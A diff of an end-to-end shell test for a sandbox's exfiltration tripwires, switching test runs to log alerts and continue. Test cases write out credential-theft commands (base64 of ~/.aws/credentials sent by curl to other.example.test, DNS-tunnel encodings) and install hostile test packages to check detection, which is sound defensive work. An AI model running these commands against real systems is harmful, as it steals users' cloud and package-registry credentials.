@@ -203,10 +203,13 @@ else
 fi
 
 ## ---- the hostile package ----------------------------------------------------------------------
+# The node preset freezes the run at a tripwire (doc/react.md; tests/e2e/react.sh
+# has that); here the runs that trip are told to log, so that they run on and
+# show what each detector sees.
 mkdir -p "$TN/cases/evil" && cp "$TN/evil.tgz" "$TN/cases/evil/"
 : >"$TN/dns.queries.before"
 cp "$TN/dns.queries" "$TN/dns.queries.before"
-run_case evil --profile node -- npm install ./evil.tgz
+run_case evil --profile node --on-alert log -- npm install ./evil.tgz
 EVIL_ID=$(session_id)
 EVIL=$C
 sent=$(grep -c '^asked ' "$C/evil-sent.txt" 2>/dev/null)
@@ -257,7 +260,8 @@ fi
 # watch: a detached run, watched as it happens (on a pipe: one line an event).
 C=$TN/cases/evil-watch
 mkdir -p "$C" && cp "$TN/evil.tgz" "$C/" && chmod -R a+rwX "$C"
-WID=$(cd "$C" && tn_boxy run -d --profile node -- sh -c 'sleep 1; npm install ./evil.tgz; sleep 2' \
+WID=$(cd "$C" && tn_boxy run -d --profile node --on-alert log -- \
+	sh -c 'sleep 1; npm install ./evil.tgz; sleep 2' \
 	2>"$C/err")
 (tn_boxy watch "$WID" >"$C/watch" 2>&1) &
 wpid=$!
@@ -356,7 +360,7 @@ fi
 exfil_http='b=$(base64 -w0 ~/.aws/credentials)
 	curl -s -m 5 -o /dev/null -w "curl %{http_code}\n" --data "d=$b" http://other.example.test:8081/up
 	echo "curl exit $?"; exit 0'
-run_case exfil-http --profile node -- sh -c "$exfil_http"
+run_case exfil-http --profile node --on-alert log -- sh -c "$exfil_http"
 if trip_alerts | grep -q '^tcp://93.184.216.36:8081|.*AWS .*first bytes of a TCP flow to other.example.test.*base64-encoded.*reset' &&
 	! grep -qa 'W2RlZmF1bHRd' "$TN/sink.bytes" && grep -q 'curl exit [1-9]' "$C/out"; then
 	ok "tripwire: a token sent base64 in an HTTP body fires the wire; the connection is reset and the server never gets it"
@@ -376,7 +380,7 @@ for i in range(0, len(s), 10):
 print("sent", len(s) // 10 + 1)
 PY
 	exit 0'
-run_case exfil-b32 --profile node -- sh -c "$exfil_b32"
+run_case exfil-b32 --profile node --on-alert log -- sh -c "$exfil_b32"
 if trip_alerts | grep -q '^tunnel.test|.*base32-encoded in the DNS names under tunnel.test'; then
 	ok "tripwire: base32 cut into 10-character labels over many queries is found"
 else
@@ -392,7 +396,7 @@ except OSError:
     pass
 PY
 	exit 0'
-run_case exfil-short --profile node -- sh -c "$exfil_short"
+run_case exfil-short --profile node --on-alert log -- sh -c "$exfil_short"
 if trip_alerts | grep -q '^short.test|.*hex-encoded in the DNS names under short.test'; then
 	ok "tripwire: a token in 7-character labels of one name is found"
 else
@@ -421,7 +425,7 @@ fi
 # then reads itself: its own reads are alerts naming it, and the helper is named as what
 # ran it (its claim is not believed: sandbox/attrib.h).
 mkdir -p "$TN/cases/evil-knows" && cp "$TN/evil-knows.tgz" "$TN/cases/evil-knows/"
-run_case evil-knows --profile node -- npm install ./evil-knows.tgz
+run_case evil-knows --profile node --on-alert log -- npm install ./evil-knows.tgz
 A=$(trip_alerts)
 if [ "$RC" -eq 0 ] && grep -q '^probe refused$' "$C/evil-knows.txt" &&
 	grep -q '^read ' "$C/evil-knows.txt" &&
@@ -444,7 +448,7 @@ def read():
 t = threading.Thread(target=read)
 t.start()
 t.join()"'
-run_case threads --profile node --net none -- sh -c "$threads"
+run_case threads --profile node --on-alert log --net none -- sh -c "$threads"
 if grep -q '^node read ' "$C/out" && grep -q '^thread read ' "$C/out" &&
 	trip_alerts | grep -q '^~/.aws/credentials|.*opened by node -e ' &&
 	trip_alerts | grep -q '^~/.pypirc|.*opened by python3 -c '; then
@@ -528,7 +532,7 @@ for enc in (d[::-1].hex(), bytes(b ^ 0x5a for b in d).hex()):
             pass
 PY
 	exit 0'
-run_case exfil-blind --profile node -- sh -c "$exfil_blind"
+run_case exfil-blind --profile node --on-alert log -- sh -c "$exfil_blind"
 if trip_alerts | grep -q '^~/.aws/credentials|.*opened by' && ! trip_alerts | grep -q '^blind.test|'; then
 	ok "tripwire: a token reversed or XORed is not recognised on the way out (a documented limit); the read's alert names the reader"
 else
